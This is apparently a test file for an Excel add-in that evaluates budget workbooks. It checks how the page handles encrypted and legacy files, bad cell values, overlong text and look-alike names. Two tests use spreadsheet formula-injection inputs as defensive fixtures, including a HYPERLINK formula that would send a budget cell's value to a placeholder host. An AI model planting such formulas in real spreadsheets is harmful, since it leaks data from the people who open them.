/**
 * Issue 12's cases as the browser page meets them: the real page services (makeBrowserServices: the xlsx adapter
 * opened from the file the clerk picks, the real job), the real App, only the download caught. An encrypted
 * workbook, an old .xls (by name and by content), a date in an amount, a formula without a cached value, a grade
 * label in the 评分方案 sheet that would be formula syntax, and one that only looks like it.
 */
import '../support/exceljsInJsdom';
import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { makeBrowserServices } from '../../src/taskpane/services/browserServices';
import type { BrowserServices } from '../../src/taskpane/services/services';
import { encryptedWorkbook, legacyWorkbook } from '../support/compoundFile';
import { formulaProblems } from '../support/formulaSafety';
import { baseFixture, variant } from '../support/readingWorkbook';
import { buildXlsx, dumpFixture } from '../support/xlsxFixture';
import { renderApp, user } from './fakes';
import { fill } from '../support/filled';
import type { WorkbookFixture } from '../support/fixture';

jest.setTimeout(90_000);

/** A grade label (at most 20 characters in the sheet) that would close a formula's text and call HYPERLINK. */
const LINK = '优"&HYPERLINK("x")&"';

function pageServices(): BrowserServices & { saveFile: jest.Mock } {
  return { ...makeBrowserServices(), saveFile: jest.fn() };
}

async function openInPage(name: string, bytes: Uint8Array) {
  const services = pageServices();
  const u = user();
  renderApp(services);
  await u.upload(screen.getByLabelText('打开工作簿'), new File([bytes as BlobPart], name));
  return { services, u };
}

/** The blocking list the page shows, as text. */
async function blocking(): Promise<string> {
  const list = await screen.findByRole('list', { name: '以下问题阻止了写入，工作簿未作任何改动' });
  return list.textContent ?? '';
}

/** The filled base workbook with one grade label of its 评分方案 sheet replaced. */
async function withGradeLabel(label: string): Promise<Uint8Array> {
  const filled = await dumpFixture((await fill(await buildXlsx(baseFixture()))).bytes);
  const scheme = filled.sheets.find((s) => s.name === '评分方案')!;
  const at = Object.entries(scheme.cells).find(
    ([, v]) => v === '优' || (v !== null && typeof v === 'object' && 'value' in v && v.value === '优'),
  );
  if (!at) throw new Error('no 优 in 评分方案');
  scheme.cells[at[0]] = label;
  return buildXlsx(filled);
}

function formulas(fixture: WorkbookFixture): string[] {
  return fixture.sheets.flatMap((s) =>
    Object.values(s.cells).flatMap((c) =>
      c !== null && typeof c === 'object' && 'formula' in c && c.formula ? [c.formula] : [],
    ),
  );
}

test('an encrypted workbook: the page asks for the password to be removed, not 已损坏', async () => {
  await openInPage('加密.xlsx', encryptedWorkbook(await buildXlsx(baseFixture())));
  const message = await screen.findByText(/^无法读取"加密.xlsx"：该工作簿设置了打开密码/);
  expect(message.textContent).toContain('取消密码');
  expect(message.textContent).not.toContain('损坏');
  expect(screen.queryByRole('button', { name: '计算指标' })).not.toBeInTheDocument();
});

test('an old .xls: refused by its name, and by its content when renamed .xlsx', async () => {
  await openInPage('改名.xlsx', legacyWorkbook());
  expect(await screen.findByText(/^无法读取"改名.xlsx"：该文件是旧版 Excel 格式（.xls）/)).toBeInTheDocument();
  // The picker's accept filter hides .xls; a drop or another picker can still deliver one.
  fireEvent.change(screen.getByLabelText('打开工作簿'), {
    target: { files: [new File([legacyWorkbook() as BlobPart], '旧表.xls')] },
  });
  expect(
    await screen.findByText('"旧表.xls"不是 .xlsx 文件。请在 Excel 或 WPS 中另存为 .xlsx 格式后再打开。'),
  ).toBeInTheDocument();
});

test('a date in 全年预算数: the error names the cell and nothing can be downloaded', async () => {
  const { u } = await openInPage(
    '日期.xlsx',
    await buildXlsx(variant({ cells: { B6: { value: 44561, numberFormat: 'yyyy-mm-dd' } } })),
  );
  const text = await blocking();
  expect(text).toContain('输入项“全年预算数”（基础数据!B6）是日期或时间格式（yyyy-mm-dd）');
  await u.click(screen.getByRole('button', { name: '计算指标' }));
  await waitFor(() => expect(screen.getByRole('button', { name: '计算指标' })).toBeEnabled());
  expect(screen.queryByRole('button', { name: '下载结果' })).not.toBeInTheDocument();
});

test('a formula without a cached value: says to open and save the file in Excel or WPS, not 空的', async () => {
  await openInPage('未计算.xlsx', await buildXlsx(variant({ cells: { B5: { formula: '=B4-2' } } })));
  const text = await blocking();
  expect(text).toContain('（基础数据!B5）是公式，但文件中没有保存它的计算结果');
  expect(text).toContain('在 Excel 或 WPS 中打开该文件、保存一次');
  expect(text).not.toContain('空的');
});

test('a grade typed as a formula in the 评分方案 sheet is refused naming its row', async () => {
  await openInPage(
    '公式等级.xlsx',
    await withGradeLabel('=HYPERLINK("http://example.invalid/?b="&基础数据!B7,"点击")'),
  );
  const text = await blocking();
  expect(text).toMatch(/评分方案表第\d+行/);
  expect(text).toContain('当作公式');
});

test('a grade label carrying quotes and a HYPERLINK stays text: the download has only our formulas', async () => {
  const { services, u } = await openInPage('链接等级.xlsx', await withGradeLabel(LINK));
  await u.click(await screen.findByRole('button', { name: '计算指标' }));
  await u.click(await screen.findByRole('button', { name: '下载结果' }));
  await waitFor(() => expect(services.saveFile).toHaveBeenCalledTimes(1));
  const out = await dumpFixture(services.saveFile.mock.calls[0][1] as Uint8Array);
  const all = formulas(out);
  // The grade is looked up from our cells (INDEX/MATCH), never spelt into the formula.
  expect(all.some((f) => f.includes('MATCH('))).toBe(true);
  expect(all.flatMap(formulaProblems)).toEqual([]);
  expect(all.join('\n')).not.toContain('HYPERLINK');
  const scheme = out.sheets.find((s) => s.name === '评分方案')!;
  expect(
    Object.values(scheme.cells).some(
      (v) => v === LINK || (v !== null && typeof v === 'object' && 'value' in v && v.value === LINK),
    ),
  ).toBe(true);
  expect(within(screen.getByRole('region', { name: '评价结果' })).getByLabelText('评价等级')).toBeInTheDocument();
});

test('a 单位名称 longer than a cell: the page says which titles were cut, and every downloaded cell fits', async () => {
  const unit = '忻州市人民政府金融工作办公室'.repeat(2500);
  const { services, u } = await openInPage('长名称.xlsx', await buildXlsx(variant({ cells: { B2: unit } })));
  await u.click(await screen.findByRole('button', { name: '计算指标' }));
  const result = await screen.findByRole('region', { name: '评价结果' });
  expect(
    within(result).getByText(/“评分表”工作表 A1 的文字有 \d+ 个字符，超过 Excel 每个单元格 32767 个字符的上限，已截断/),
  ).toBeInTheDocument();
  await u.click(screen.getByRole('button', { name: '下载结果' }));
  await waitFor(() => expect(services.saveFile).toHaveBeenCalledTimes(1));
  const out = await dumpFixture(services.saveFile.mock.calls[0][1] as Uint8Array);
  const lengths = out.sheets
    .filter((s) => s.name !== '基础数据')
    .flatMap((s) => Object.values(s.cells))
    .map((c) => {
      const v = c !== null && typeof c === 'object' && 'value' in c ? c.value : c;
      return typeof v === 'string' ? v.length : 0;
    });
  expect(Math.max(...lengths)).toBe(32767);
});

test('look-alike names and missing quarters: the page shows the info naming the name and the warning naming the quarters', async () => {
  const kangxi1 = '\u2F00季度累计支出'; // ⼀ KANGXI RADICAL ONE, NFKC → 一
  const fixture = variant({
    cells: { B10: 37.39, B11: 66.73 },
    names: [
      { name: kangxi1, refersTo: '基础数据!$B$10' },
      { name: '二季度累计支出', refersTo: '基础数据!$B$11' },
    ],
  });
  const { u } = await openInPage('季度.xlsx', await buildXlsx(fixture));
  await u.click(await screen.findByRole('button', { name: '计算指标' }));
  const result = await screen.findByRole('region', { name: '评价结果' });
  expect(
    within(result).getByText(/^支付进度率只按一季度、二季度的累计支出计算：缺少三季度累计支出、四季度累计支出/),
  ).toBeInTheDocument();
  await u.click(within(result).getByRole('button', { name: /^提示/ }));
  expect(
    await within(result).findByText(
      new RegExp(`名称“${kangxi1}”与标准名称“一季度累计支出”只差在外观相同或不可见的字符`),
    ),
  ).toBeInTheDocument();
});
